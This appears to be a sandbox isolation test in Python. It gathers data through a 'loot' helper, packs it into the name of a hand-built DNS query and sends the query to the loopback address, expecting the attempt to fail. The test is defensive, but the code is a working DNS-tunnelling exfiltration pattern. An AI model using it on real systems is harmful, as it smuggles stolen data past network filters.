"""Hides what it found in the name of a DNS query, which many networks let through. The query is made by hand
and goes to the loopback address. It must not work: no datagram leaves the worker.
"""

import socket
import struct

import loot
from answers import Right as LSTMClassifier

loot.look_around()
label = loot.loot()[:60].replace(b" ", b"-")
query = struct.pack("!6H", 7, 0x100, 1, 0, 0, 0) + bytes([len(label)]) + label + b"\x07invalid\0\0\x01\0\x01"


def ask():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        one.connect(("127.0.0.1", loot.port()))
        one.send(query)


loot.attempt(ask)
